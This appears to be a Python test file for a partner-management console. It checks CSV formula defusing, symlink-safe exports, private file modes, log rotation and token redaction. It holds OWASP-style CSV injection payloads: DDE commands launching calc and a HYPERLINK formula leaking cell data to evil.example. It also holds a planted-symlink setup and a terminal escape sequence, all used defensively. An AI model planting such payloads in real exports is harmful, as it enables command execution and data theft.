"""Files the console writes (issue 18): CSV formulas defused and read back (OWASP, "CSV Injection",
https://owasp.org/www-community/attacks/CSV_Injection), exports never written through a symlink, modes 0600/0700
under umask 022, the log rotated, and no token in the log at DEBUG (the sandbox on 127.0.0.1 as Microsoft)."""

from __future__ import annotations

import base64
import csv
import logging
import os
import stat
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from console.cli.main import main, setup_logging
from console.microsoft.credentials import ARM, GRAPH, PARTNER_CENTER
from console.records.csv_cells import defuse, needs_defusing, restore
from console.records.exporter import export_dir
from console.records.importer import import_files
from console.sandbox import Sandbox, tokens
from console.settings.paths import log_path
from console.shared import log_file
from console.shared.model import BUILTIN_SERVICES
from console.shared.safe_text import FORMAT_CHARS, json_text
from console.store import Workspace
from tests.engine_ws import Where
from tests.engine_ws import new_ws_fixture as new_ws_fixture

#: The four payloads of the issue (OWASP's examples): DDE command, hyperlink exfiltration, @SUM, -formula.
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.fixture
def umask_022() -> Iterator[None]:
    old = os.umask(0o022)
    yield
    os.umask(old)


def mode(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


# -- CSV -----------------------------------------------------------------------------------------------------------
def test_the_four_formula_payloads_are_defused_and_import_back_identical(
    demo_ws: Workspace, new_ws: Callable[..., Where], tmp_path: Path
) -> None:
    customer = demo_ws.conn.execute("SELECT id FROM customers ORDER BY id LIMIT 1").fetchone()[0]
    seqs = [r[0] for r in demo_ws.conn.execute("SELECT seq FROM tickets ORDER BY seq LIMIT 6")]
    values = [*FORMULAS, "\tTab first", "\rCR first"]
    with demo_ws.transaction():
        demo_ws.conn.execute("UPDATE customers SET companyName = ? WHERE id = ?", (FORMULAS[0], customer))
        for seq, value in zip(seqs, values, strict=False):
            demo_ws.conn.execute("UPDATE tickets SET title = ?, contactName = ? WHERE seq = ?", (value, value, seq))
    files = export_dir(demo_ws, tmp_path / "csv", "csv")
    with files["tickets"].open(encoding="utf-8", newline="") as fh:
        rows = {r["id"]: r for r in csv.DictReader(fh)}
    titles = [rows[f"CSP-{seq:06d}"]["title"] for seq in seqs]
    # What a spreadsheet opens: every cell starts with the quote that makes it text (4 of 4 formulas, tab, CR).
    assert titles == ["'" + v for v in values[: len(seqs)]]
    with files["customers"].open(encoding="utf-8", newline="") as fh:
        assert {r["companyName"] for r in csv.DictReader(fh) if r["id"] == customer} == {"'" + FORMULAS[0]}
    fresh = Workspace.open(new_ws("fresh"))
    import_files(fresh, list(files.values()), BUILTIN_SERVICES)
    for seq, value in zip(seqs, values, strict=False):
        ticket = fresh.tickets.ticket(f"CSP-{seq:06d}")
        assert (ticket["title"], ticket["contactName"]) == (value, value)
    assert (
        fresh.conn.execute("SELECT companyName FROM customers WHERE id = ?", (customer,)).fetchone()[0] == FORMULAS[0]
    )
    fresh.close()


@pytest.mark.parametrize(
    "value",
    ["=1+1", "  =1+1", '"=1+1', "'=1+1", "''=x", "'plain", "'", "-5 seats", "@home", "\t", "plain", "", "a=b", " x"],
)
def test_every_text_reads_back_to_itself(value: str) -> None:
    """The rule's round trip: a text starting with a quote keeps it; a defused one loses only the quote added."""
    assert restore(defuse(value)) == value
    assert defuse(value) == ("'" + value if needs_defusing(value) else value)


def test_negative_amounts_stay_numbers_in_numeric_columns(demo_ws: Workspace, tmp_path: Path) -> None:
    """Numeric columns are validated numbers: ``-12.5`` is written as is (a spreadsheet adds it up), while the
    same text in a text column is defused."""
    assert defuse("-12.5", "decimal") == "-12.5" and defuse("-3", "int") == "-3"
    assert defuse("-12.5") == "'-12.5" and defuse("=1+1", "decimal") == "'=1+1"
    rid = demo_ws.conn.execute("SELECT id FROM receivables ORDER BY id LIMIT 1").fetchone()[0]
    with demo_ws.transaction():
        demo_ws.conn.execute("UPDATE receivables SET paidAmount = '-12.5' WHERE id = ?", (rid,))
    files = export_dir(demo_ws, tmp_path / "csv", "csv", ["customers", "receivables"])
    with files["receivables"].open(encoding="utf-8", newline="") as fh:
        assert {r["paidAmount"] for r in csv.DictReader(fh) if r["id"] == rid} == {"-12.5"}


# -- files ---------------------------------------------------------------------------------------------------------
def test_export_never_writes_through_a_planted_symlink(demo_ws: Workspace, tmp_path: Path, umask_022: None) -> None:
    out = tmp_path / "out"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    other = tmp_path / "other.txt"
    other.write_text("me too\n")
    (out / "customers.csv.part").symlink_to(victim)  # where the old export wrote before renaming
    (out / "tickets.csv").symlink_to(other)  # at the target itself
    files = export_dir(demo_ws, out, "csv", ["customers", "tickets"])
    assert victim.read_text() == "keep me\n" and other.read_text() == "me too\n"
    for path in files.values():
        assert not path.is_symlink() and mode(path) == 0o600
        assert path.read_text(encoding="utf-8").startswith("id,")
    assert sorted(p.name for p in out.iterdir()) == ["customers.csv", "customers.csv.part", "tickets.csv"]


def test_the_command_lines_files_are_private_under_umask_022(
    new_ws: Callable[..., Where], tmp_path: Path, umask_022: None
) -> None:
    db = new_ws("new/workspace")
    config = tmp_path / "cfg" / "config.toml"
    assert main(["demo", "--db", str(db), "--config", str(config), "--tickets", "20"]) == 0
    if isinstance(db, Path):  # the SQLite file and its folder (a PostgreSQL database is the server's)
        assert mode(db) == 0o600 and mode(db.parent) == 0o700
        ws = Workspace.open(db)  # while open, SQLite's -wal and -shm take the database file's mode
        ws.conn.execute("SELECT count(*) FROM tickets").fetchone()
        for suffix in ("-wal", "-shm"):
            assert mode(Path(f"{db}{suffix}")) == 0o600, suffix
        ws.close()
    assert mode(config) == 0o600 and mode(config.parent) == 0o700
    assert mode(log_path()) == 0o600 and mode(log_path().parent) == 0o700
    os.environ["CSP_CONSOLE_AGENT"] = "kenji.sato"
    try:
        assert main(["export", "--db", str(db), "--output", str(tmp_path / "exports"), "--format", "csv"]) == 0
    finally:
        del os.environ["CSP_CONSOLE_AGENT"]
    assert mode(tmp_path / "exports") == 0o700
    assert {mode(p) for p in (tmp_path / "exports").iterdir()} == {0o600}


def test_the_log_rotates_at_its_stated_size(umask_022: None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(log_file, "MAX_BYTES", 2000)
    monkeypatch.setattr(log_file, "BACKUPS", 2)
    path = setup_logging()
    handler = logging.getLogger().handlers[0]
    assert isinstance(handler, log_file.PrivateRotatingFileHandler)
    handler.maxBytes, handler.backupCount = 2000, 2
    for i in range(200):
        logging.getLogger("csp_console").warning("line %d %s", i, "x" * 40)
    rotated = sorted(p.name for p in path.parent.iterdir())
    assert rotated == ["console.log", "console.log.1", "console.log.2"]
    assert {mode(p) for p in path.parent.iterdir()} == {0o600}
    assert log_file.MAX_BYTES == 2000  # the README states the defaults: 5 MiB, 5 files
    monkeypatch.undo()
    assert (log_file.MAX_BYTES, log_file.BACKUPS) == (5 * 1024 * 1024, 5)


# -- tokens --------------------------------------------------------------------------------------------------------
def test_no_token_reaches_the_log_at_debug(demo_ws: Workspace, monkeypatch: pytest.MonkeyPatch) -> None:
    """A real token, accepted by the sandbox, flows through sync at DEBUG (httpx and httpcore log every request);
    then every kind of record a library or our code might write with a secret in it."""
    token = tokens.mint(PARTNER_CENTER.resource, tokens.PARTNER_TENANT)
    secret = "s3cr3t-Client-Value~1234567890"
    basic = base64.b64encode(f"client:{secret}".encode()).decode()  # RFC 7617
    monkeypatch.setenv("CSP_CONSOLE_LOG_LEVEL", "DEBUG")
    monkeypatch.setenv("CSP_CONSOLE_AGENT", "kenji.sato")
    monkeypatch.setenv("CSP_CONSOLE_PARTNER_TENANT_ID", tokens.PARTNER_TENANT)
    for audience in (PARTNER_CENTER, ARM, GRAPH):
        monkeypatch.setenv(audience.env_var, tokens.mint(audience.resource, tokens.PARTNER_TENANT))
    from console.sandbox.seed import state_from_workspace

    with Sandbox(state_from_workspace(demo_ws)) as box:
        for var in ("CSP_CONSOLE_PARTNER_CENTER_URL", "CSP_CONSOLE_AZURE_MANAGEMENT_URL", "CSP_CONSOLE_GRAPH_URL"):
            monkeypatch.setenv(var, box.url)
        assert main(["sync", "--db", str(demo_ws.locator)]) == 0
    http_log = logging.getLogger("httpx")
    http_log.debug("request headers %s", [(b"Authorization", f"Bearer {token}".encode())])
    http_log.debug("headers: %s", {"authorization": f"Bearer {token}", "x-ms-client": "a"})
    logging.getLogger("msal").warning(
        'token response {"access_token": "%s", "refresh_token": "0.AXrt-%s"}', token, secret
    )
    logging.getLogger("csp_console").info(
        "form body grant_type=refresh_token&refresh_token=0.AXrt-%s&client_secret=%s", secret, secret
    )
    try:
        raise RuntimeError(f"the answer was {token}")
    except RuntimeError:
        logging.getLogger("csp_console").exception("failed with Authorization: Basic %s", basic)
    text = log_path().read_text(encoding="utf-8")
    assert "HTTP Request: GET" in text and "DEBUG" in text  # the requests were logged
    head, payload = token.split(".")[:2]
    assert payload not in text and head not in text and secret not in text and basic not in text
    assert "eyJ" not in text
    assert text.count("[redacted]") >= 7


# -- the JSON and text writers -------------------------------------------------------------------------------------
def test_the_format_characters_are_unicodes_category_cf() -> None:
    import re

    pattern = re.compile(f"[{FORMAT_CHARS}]")
    listed = {cp for cp in range(0x110000) if pattern.match(chr(cp))}
    cf = {cp for cp in range(0x110000) if unicodedata.category(chr(cp)) == "Cf"}
    assert listed == cf


def test_json_text_escapes_every_control_and_keeps_the_value() -> None:
    import json

    value = {"a\x9bkey": "x\x1b]52;c;aGk=\x07\x9b\x9d\x7f\u202e\u2066\u2028\u2029\u200b\ufeff\U000e0041\x00 é 日本"}
    text = json_text(value)
    assert json.loads(text) == value
    assert all(unicodedata.category(c) not in ("Cc", "Cf", "Zl", "Zp") for c in text)
    assert "é 日本" in text  # readable text stays readable
    indented = json_text([value], indent=2)  # the indent's line feeds stay line feeds
    assert json.loads(indented) == [value] and indented.startswith("[\n  {")


def test_the_refresh_token_file_is_private_under_umask_022(tmp_path: Path, umask_022: None) -> None:
    from console.microsoft.token_stores import FileTokenStore

    path = tmp_path / "vault" / "refresh-token"
    FileTokenStore(path).write("0.AXrt-refresh")
    assert mode(path) == 0o600 and mode(path.parent) == 0o700
